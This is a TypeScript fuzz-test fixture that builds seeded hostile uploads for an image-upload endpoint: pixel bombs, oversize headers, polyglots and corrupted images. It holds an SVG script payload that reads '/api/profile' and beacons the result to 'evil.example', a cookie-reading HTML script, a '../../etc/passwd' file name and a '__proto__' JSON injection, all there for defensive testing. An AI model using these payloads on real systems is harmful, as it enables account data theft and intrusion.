// The hostile files the upload fuzz test posts: made deterministically from a seed, from the real room
// fixtures and from small images sharp makes. Each case says what the server may answer.
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { LIMITS } from '#shared/constants';
import type { UploadErrorCode } from '#shared/messages';
import { createRandom } from '#server/engines/offline/random';
import { heicDeclaring, pngDeclaring, readFixture } from '../fakes/upload-test-images';

export type HostileUpload = {
  label: string;
  data: Buffer;
  contentType: string;
  fileName: string | null;
  /**
   * 'refused': any catalogue refusal (never UNEXPECTED); a code: exactly that one; 'may-succeed': the bytes may
   * still be a decodable image (a flipped byte in pixel data, trailing junk after a valid image), so a 200 is
   * allowed, and the test then checks the stored picture is a clean re-encoded JPEG; 'valid': a genuine image
   * under a misleading name or type, which must be accepted because the bytes decide.
   */
  expect: 'refused' | 'may-succeed' | 'valid' | UploadErrorCode;
};

const JPEG_FIXTURES = [
  'kitchen_1.jpg',
  'kitchen_1_exif_orientation_6.jpg',
  'dining_room_1.jpg',
  'home_office_1.jpg',
  'living_room_1.jpg',
  'bedroom_1.jpg',
  'kitchen_2.jpg',
  'living_room_12mp.jpg',
];
const CONTENT_TYPES = [
  'image/jpeg',
  'image/png',
  'image/webp',
  'image/heic',
  'image/svg+xml',
  'text/html',
  'text/plain',
  'application/json',
  'application/zip',
  'application/octet-stream',
  'multipart/form-data; boundary=x',
  '',
];
const FILE_NAMES = [
  'photo.jpg',
  'photo.png',
  'photo.heic',
  'evil.php',
  'index.html',
  'drawing.svg',
  '../../etc/passwd',
  'a'.repeat(400) + '.jpg',
  '%E0%A4%A',
  'résumé%20final.jpg',
  null,
];

const SVG_WITH_SCRIPT = `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)"><script>fetch('/api/profile').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example',t))</script><rect width="100" height="100"/></svg>`;
const HTML_PAYLOAD = '<html><body><script>alert(document.cookie)</script></body></html>';

/** A minimal stored ZIP holding one file: enough for `unzip` to list it. */
function tinyZip(): Buffer {
  const name = Buffer.from('payload.html');
  const content = Buffer.from(HTML_PAYLOAD);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  return Buffer.concat([local, name, content]);
}

/** A PNG that really holds width × height pixels of one colour: a few hundred KB that inflate to hundreds of MB. */
function compressiblePng(width: number, height: number): Buffer {
  const chunk = (type: string, body: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(body.length);
    const typed = Buffer.concat([Buffer.from(type, 'latin1'), body]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const row = Buffer.alloc(width + 1); // filter byte 0, then zero pixels
  const rows = Buffer.alloc(row.length * height);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function crc32(data: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/** The same JPEG with its frame header (SOF0/SOF2) declaring width × height. */
function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(jpeg);
  for (let offset = 2; offset + 9 < copy.length;) {
    const marker = copy[offset + 1];
    const length = copy.readUInt16BE(offset + 2);
    if (marker === 0xc0 || marker === 0xc2) {
      copy.writeUInt16BE(height, offset + 5);
      copy.writeUInt16BE(width, offset + 7);
      return copy;
    }
    offset += 2 + length;
  }
  throw new Error('no SOF marker');
}

/** A lossless WebP (VP8L) header declaring up to 16384 × 16384. */
function webpDeclaring(webp: Buffer, width: number, height: number): Buffer {
  const copy = Buffer.from(webp);
  if (copy.toString('latin1', 12, 16) !== 'VP8L') throw new Error('expected a lossless WebP');
  const bits = (width - 1) | ((height - 1) << 14) | (copy.readUInt32LE(21) & 0xf0000000);
  copy.writeUInt32LE(bits >>> 0, 21);
  return copy;
}

async function sharpSources(random: () => number): Promise<Buffer[]> {
  const sources: Buffer[] = [];
  for (let index = 0; index < 12; index += 1) {
    const width = 16 + Math.floor(random() * 400);
    const height = 16 + Math.floor(random() * 300);
    // Noise from the seeded generator (sharp's own noise option is not seeded, and made every run's files differ):
    // the sum of three uniform draws, roughly Gaussian around mid-grey.
    const pixels = Buffer.alloc(width * height * 3);
    for (let at = 0; at < pixels.length; at += 1) pixels[at] = Math.round(128 + (random() + random() + random() - 1.5) * 80);
    const image = await sharp(pixels, { raw: { width, height, channels: 3 } })
      .png()
      .toBuffer();
    const base = sharp(image);
    sources.push(
      await base.clone().jpeg({ quality: 80 }).toBuffer(),
      await base.clone().png().toBuffer(),
      await base.clone().webp({ quality: 70 }).toBuffer(),
    );
  }
  return sources;
}

/** `count` cases or a few more, the same for the same seed. */
export async function hostileUploads(seed: number, count = 1000): Promise<HostileUpload[]> {
  const random = createRandom(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)];
  const noise = (length: number) => {
    const data = Buffer.alloc(length);
    for (let at = 0; at < length; at += 1) data[at] = below(256);
    return data;
  };
  const jpegs = await Promise.all(JPEG_FIXTURES.map(readFixture));
  const heic = await readFixture('kitchen_2.heic');
  const small = await sharpSources(random);
  const smallJpeg = small[0];
  const cases: HostileUpload[] = [];
  const add = (
    label: string,
    data: Buffer,
    expect: HostileUpload['expect'],
    headers: Partial<Pick<HostileUpload, 'contentType' | 'fileName'>> = {},
  ) =>
    cases.push({
      label,
      data,
      expect,
      contentType: headers.contentType ?? pick(CONTENT_TYPES),
      fileName: headers.fileName === undefined ? pick(FILE_NAMES) : headers.fileName,
    });

  const truncated = (source: Buffer) => source.subarray(0, 1 + below(source.length - 1));
  const flipped = (source: Buffer) => {
    const data = Buffer.from(source);
    // Half the flips in the first kilobyte, where the headers a decoder trusts live.
    for (let f = 1 + below(16); f > 0; f -= 1) data[below(random() < 0.5 ? Math.min(1024, data.length) : data.length)] = below(256);
    return data;
  };

  // Fixed cases: sizes at the edges, bombs, non-images that pretend.
  add('zero bytes', Buffer.alloc(0), 'INVALID_FORMAT');
  add(
    '5 MB + 1 byte, JPEG magic',
    Buffer.concat([smallJpeg, Buffer.alloc(LIMITS.uploadMaxBytes + 1 - smallJpeg.length)]),
    'FILE_TOO_LARGE',
  );
  add('5 MB + 1 byte of noise', noise(LIMITS.uploadMaxBytes + 1), 'FILE_TOO_LARGE');
  add(
    'exactly 5 MB, JPEG magic then zeros',
    Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(LIMITS.uploadMaxBytes - 3)]),
    'LOAD_FAILED',
  );
  for (let length = 1; length <= 16; length += 1)
    add(
      `${length} byte(s) of JPEG/PNG magic`,
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0, 0, 0, 0, 0]).subarray(0, length),
      'refused',
    );
  add('SVG with script', Buffer.from(SVG_WITH_SCRIPT), 'INVALID_FORMAT', { contentType: 'image/svg+xml', fileName: 'photo.svg' });
  add('SVG with script named .jpg', Buffer.from(SVG_WITH_SCRIPT), 'INVALID_FORMAT', { contentType: 'image/jpeg', fileName: 'photo.jpg' });
  add('HTML named .png', Buffer.from(HTML_PAYLOAD), 'INVALID_FORMAT', { contentType: 'image/png', fileName: 'photo.png' });
  add('GIF', await sharp(small[1]).gif().toBuffer(), 'INVALID_FORMAT', { contentType: 'image/gif' });
  add('TIFF', await sharp(small[1]).tiff().toBuffer(), 'INVALID_FORMAT', { contentType: 'image/tiff' });
  add('AVIF (HEIF container, AV1)', await sharp(small[1]).avif({ quality: 40 }).toBuffer(), 'INVALID_FORMAT', {
    contentType: 'image/heic',
    fileName: 'photo.heic',
  });
  add('PDF', Buffer.from('%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF'), 'INVALID_FORMAT', { contentType: 'application/pdf' });
  add('ZIP', tinyZip(), 'INVALID_FORMAT', { contentType: 'application/zip' });
  add('JSON', Buffer.from('{"uploadId":"x","__proto__":{"admin":true}}'), 'INVALID_FORMAT', { contentType: 'application/json' });
  for (const [width, height] of [
    [30_000, 30_000],
    [65_535, 65_535],
    [7072, 7072],
  ])
    add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'PROCESSING_FAILED');
  // Past what libpng itself accepts: refused one way or the other.
  for (const [width, height] of [
    [1, 2_147_483_647],
    [1_000_000, 100],
  ])
    add(`PNG declaring ${width}×${height}`, await pngDeclaring(width, height), 'refused');
  // Real pixel data, highly compressible: 8000×8000 zero-filled greyscale is 64 MP in about 60 KB.
  add('compressible PNG 8000×8000', compressiblePng(8000, 8000), 'PROCESSING_FAILED');
  add('compressible PNG 20000×3000', compressiblePng(20_000, 3000), 'PROCESSING_FAILED');
  add('compressible PNG 7000×7000 (49 MP, under the cap)', compressiblePng(7000, 7000), 'may-succeed');
  for (const [width, height] of [
    [30_000, 30_000],
    [8000, 8000],
  ])
    add(`JPEG declaring ${width}×${height}`, jpegDeclaring(jpegs[0], width, height), 'PROCESSING_FAILED');
  // libjpeg itself stops at 65,500 px, and libwebp finds the bitstream does not match: refused before any decode.
  add('JPEG declaring 65535×65535', jpegDeclaring(jpegs[0], 65_535, 65_535), 'refused');
  const lossless = await sharp(small[1]).webp({ lossless: true }).toBuffer();
  add('WebP declaring 16384×16384', webpDeclaring(lossless, 16_384, 16_384), 'refused');
  add('HEIC declaring 30000×30000', heicDeclaring(heic, 30_000, 30_000), 'PROCESSING_FAILED');
  add('HEIC declaring 65535×65535', heicDeclaring(heic, 65_535, 65_535), 'PROCESSING_FAILED');

  // Polyglots: an image with a payload after it decodes (the payload is dropped by the re-encode);
  // a JPEG header with a payload and no image does not.
  for (let index = 0; index < 20; index += 1) {
    const image = pick(small.filter((_, at) => at % 3 === 0));
    add(`JPEG + ZIP #${index}`, Buffer.concat([image, tinyZip()]), 'may-succeed', { contentType: 'image/jpeg' });
    add(`JPEG + HTML #${index}`, Buffer.concat([image, Buffer.from(HTML_PAYLOAD)]), 'may-succeed');
    add(
      `JPEG header + HTML #${index}`,
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(HTML_PAYLOAD), noise(below(512))]),
      'LOAD_FAILED',
    );
    add(`JPEG header + ZIP #${index}`, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x40]), tinyZip()]), 'LOAD_FAILED');
    add(
      `PNG header + SVG #${index}`,
      Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from(SVG_WITH_SCRIPT)]),
      'LOAD_FAILED',
    );
  }

  // Valid images under the wrong name and type: the bytes decide, so these succeed.
  for (let index = 0; index < 20; index += 1) add(`valid image, wrong extension and type #${index}`, pick(small), 'valid');

  // Corrupted real photos and sharp-made images until the count is reached. Real fixtures are a fifth:
  // they are the slow ones (up to 12 MP) and the point is the decoders' error paths, not their speed.
  while (cases.length < count) {
    const roll = random();
    const fromFixture = roll < 0.2;
    const fromHeic = roll >= 0.2 && roll < 0.24;
    const source = fromHeic ? heic : fromFixture ? pick(jpegs) : pick(small);
    const name = fromHeic ? 'heic' : fromFixture ? 'fixture' : 'sharp image';
    const damage = below(4);
    if (damage === 0) add(`${name} truncated #${cases.length}`, truncated(source), 'refused');
    else if (damage === 1) add(`${name} flipped #${cases.length}`, flipped(source), 'may-succeed');
    else if (damage === 2) add(`${name} truncated and flipped #${cases.length}`, flipped(truncated(source)), 'may-succeed');
    else {
      // Zeroed header: the magic bytes go, so nothing recognises the format.
      const data = Buffer.from(source);
      data.fill(0, 0, 12 + below(512));
      add(`${name} header zeroed #${cases.length}`, data, 'INVALID_FORMAT');
    }
  }
  return cases;
}
